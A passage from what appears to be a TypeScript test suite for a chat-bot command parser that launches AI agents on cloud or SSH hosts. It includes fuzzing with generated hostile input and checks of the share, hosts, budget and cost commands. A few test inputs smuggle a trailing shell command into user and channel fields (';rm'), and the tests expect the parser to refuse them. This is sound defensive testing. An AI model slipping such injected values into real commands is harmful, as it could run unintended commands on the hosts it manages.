    const fragment = random() < 0.2 ? `"${pick(random, FRAGMENTS)}${pick(random, FRAGMENTS)}"` : pick(random, FRAGMENTS);
    const action = random();
    if (action < 0.4) words.splice(at, 0, fragment);
    else if (action < 0.7) words.splice(at, 1, fragment);
    else words[Math.min(at, words.length - 1)] += fragment;
  }
  return words.join(pick(random, [" ", " ", " ", "\t", "\n", "  ", "\u00A0"]));
}

const MODEL_ID = /^[a-zA-Z0-9][a-zA-Z0-9_.:-]*\/[a-zA-Z0-9][a-zA-Z0-9_.:-]*$/;
const CONTROL = /[\p{Cc}\u2028\u2029\u202A-\u202E\u2066-\u2069]/u;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
const PLAIN = (re: RegExp) => (value: string | undefined) => value === undefined || (re.test(value) && !value.startsWith("-"));

function isHost(host: string): boolean {
  const ipv4 = /^(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}$/.test(host);
  const hostname = /^[a-zA-Z0-9]([a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(\.[a-zA-Z0-9]([a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/.test(host) && !/^[0-9.]+$/.test(host);
  return ipv4 || hostname || (/^[0-9a-fA-F:.]+$/.test(host) && isIPv6(host));
}

/** The rules of the brief, restated independently of the parser. */
function expectFollowsRules(command: Command): void {
  switch (command.kind) {
    case "spawn": {
      expect(CATALOG.agents).toContain(command.agent);
      expect(CATALOG.clouds).toContain(command.cloud);
      expect(command.model === undefined || (MODEL_ID.test(command.model) && command.model.length <= 128)).toBe(true);
      expect(command.name === undefined || /^[a-z0-9](?:[a-z0-9-]{1,61})[a-z0-9]$/.test(command.name)).toBe(true);
      expect(PLAIN(/^[a-zA-Z0-9._-]{1,63}$/)(command.size)).toBe(true);
      expect(PLAIN(/^[a-zA-Z0-9_-]{1,63}$/)(command.zone)).toBe(true);
      for (const step of command.steps ?? []) expect(PLAIN(/^[a-z0-9-]+$/)(step)).toBe(true);
      if (command.prompt !== undefined) {
        expect(command.prompt.trim()).not.toBe("");
        expect(command.prompt.length).toBeLessThanOrEqual(2000);
        expect(CONTROL.test(command.prompt.replace(/\n/g, ""))).toBe(false);
        expect(LONE_SURROGATE.test(command.prompt)).toBe(false);
      }
      if (command.ttlMs !== undefined) expect(command.ttlMs > 0 && command.ttlMs <= 30 * 86_400_000).toBe(true);
      expect(typeof command.dryRun).toBe("boolean");
      expect(command.host !== undefined).toBe(command.cloud === "ssh");
      if (command.host) {
        expect(command.host.user).toMatch(/^[a-z_][a-z0-9_-]{0,31}$/);
        expect(isHost(command.host.host)).toBe(true);
        expect(Number.isInteger(command.host.port) && command.host.port >= 1 && command.host.port <= 65535).toBe(true);
      }
      return;
    }
    case "list":
      expect(["channel", "mine", "all"]).toContain(command.scope);
      expect(PLAIN(/^[a-zA-Z0-9._/:-]{1,64}$/)(command.filter)).toBe(true);
      return;
    case "status":
    case "delete":
    case "connect":
    case "restart":
      expect(PLAIN(/^[a-zA-Z0-9-]{1,63}$/)(command.target)).toBe(true);
      return;
    case "prefs-model-set":
      expect(CATALOG.agents).toContain(command.agent);
      expect(MODEL_ID.test(command.model) && command.model.length <= 128).toBe(true);
      return;
    case "prefs-model-clear":
      expect(CATALOG.agents).toContain(command.agent);
      return;
    case "keys-add":
      expect(command.publicKey).toMatch(/^(ssh-ed25519|ecdsa-sha2-nistp(256|384|521)|ssh-rsa) [A-Za-z0-9+/]+={0,2}( \S.*)?$/s);
      expect(CONTROL.test(command.publicKey)).toBe(false);
      return;
    case "keys-remove":
      expect(command.fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
      return;
    case "help":
      if (command.topic !== undefined) expect(Object.keys(USAGE)).toContain(command.topic);
      return;
    case "prefs-show":
    case "keys-list":
    case "agents":
    case "clouds":
      return;
  }
}

describe("generated hostile input", () => {
  it("never throws, answers errors in one short clean line, and only lets valid values through", () => {
    const random = prng(20_240_601);
    const usages = new Set([...Object.values(USAGE), GENERAL_USAGE]);
    const counts = { ok: 0, refused: 0 };
    for (let i = 0; i < 5000; i++) {
      const input = hostileInput(random);
      const result = parseCommand(input, CATALOG);
      const context = JSON.stringify(input.slice(0, 200));
      if (result.ok) {
        counts.ok++;
        expectFollowsRules(result.command);
      } else {
        counts.refused++;
        expect(result.error.length, context).toBeLessThanOrEqual(300);
        expect(result.error.length, context).toBeGreaterThan(0);
        expect(CONTROL.test(result.error), context).toBe(false);
        expect(result.error, context).not.toContain("Z".repeat(41));
        expect(usages.has(result.usage), context).toBe(true);
      }
    }
    // Both paths must be exercised for the test to mean anything.
    expect(counts.ok).toBeGreaterThan(500);
    expect(counts.refused).toBeGreaterThan(2000);
  });
});

describe("share and unshare", () => {
  const catalog = { agents: ["codex"], clouds: ["ssh"] };
  it("reads the user as @name, a bare id or Slack's <@U123|name>", () => {
    expect(parseCommand("share demo @bob", catalog)).toEqual({ ok: true, command: { kind: "share", target: "demo", user: "bob" } });
    expect(parseCommand("unshare demo <@U123|bob>", catalog)).toEqual({ ok: true, command: { kind: "unshare", target: "demo", user: "U123" } });
    expect(parseCommand("share demo U9", catalog)).toEqual({ ok: true, command: { kind: "share", target: "demo", user: "U9" } });
  });

  it("refuses a missing user and a user that is not an id", () => {
    expect(parseCommand("share demo", catalog)).toMatchObject({ ok: false, error: expect.stringContaining("needs a spawn and a user") });
    expect(parseCommand("share demo @bob;rm", catalog)).toMatchObject({ ok: false });
  });
});

describe("hosts", () => {
  it("lists, adds (with channels as ids or mentions), removes and trusts", () => {
    expect(ok("hosts")).toEqual({ kind: "hosts-list" });
    expect(ok("hosts add deploy@build-01.example.com")).toEqual({ kind: "hosts-add", host: { user: "deploy", host: "build-01.example.com", port: 22 } });
    expect(ok("hosts add deploy@10.0.0.5:2222 --channel C0123,<#C0456|ops>,<#98765>")).toEqual({
      kind: "hosts-add", host: { user: "deploy", host: "10.0.0.5", port: 2222 }, channels: ["C0123", "C0456", "98765"],
    });
    expect(ok("hosts rm deploy@10.0.0.5")).toEqual({ kind: "hosts-remove", host: { user: "deploy", host: "10.0.0.5", port: 22 } });
    expect(ok("hosts trust me@203.0.113.10:22")).toEqual({ kind: "hosts-trust", host: { user: "me", host: "203.0.113.10", port: 22 } });
  });

  it("refuses what it cannot read, with the hosts usage", () => {
    expect(refused("hosts ad deploy@h").error).toContain("did you mean 'add'?");
    expect(refused("hosts add").error).toContain("hosts add needs a host");
    expect(refused("hosts add deploy@h --channel '#ops;rm'").error).toContain("is not a channel");
    expect(refused("hosts trust me@h --channel C1").error).toContain("--channel goes with hosts add");
    expect(refused("hosts add nouser").usage).toContain("hosts add <user@host[:port]>");
  });
});

describe("budget and costs", () => {
  it("parses budget <spawn> <USD>", () => {
    expect(ok("budget fix-login 25")).toEqual({ kind: "budget", target: "fix-login", usd: 25 });
    expect(ok("budget fix-login 2.50")).toEqual({ kind: "budget", target: "fix-login", usd: 2.5 });
  });

  it("refuses budget without an amount, or with one that is not dollars", () => {
    expect(refused("budget fix-login").error).toContain("budget needs an amount in US dollars");
    expect(refused("budget fix-login lots").error).toContain("is not an amount in US dollars");
    expect(refused("budget fix-login 0").error).toContain("more than 0");
  });

  it("parses costs with a scope and a month, this channel and month by default", () => {
    expect(ok("costs")).toEqual({ kind: "costs", scope: "channel" });
    expect(ok("costs --mine")).toEqual({ kind: "costs", scope: "mine" });
    expect(ok("spend --all --month 2026-11")).toEqual({ kind: "costs", scope: "all", month: "2026-11" });
  });

  it("refuses two scopes, a month that is not YYYY-MM and stray words", () => {
    expect(refused("costs --mine --all").error).toContain("give one of --mine, --channel or --all");
    expect(refused("costs --month 2026-13").error).toContain("is not a month; write it as YYYY-MM");
    expect(refused("costs --month november").error).toContain("is not a month");
    expect(refused("costs alice").error).toContain("alice");
  });
});
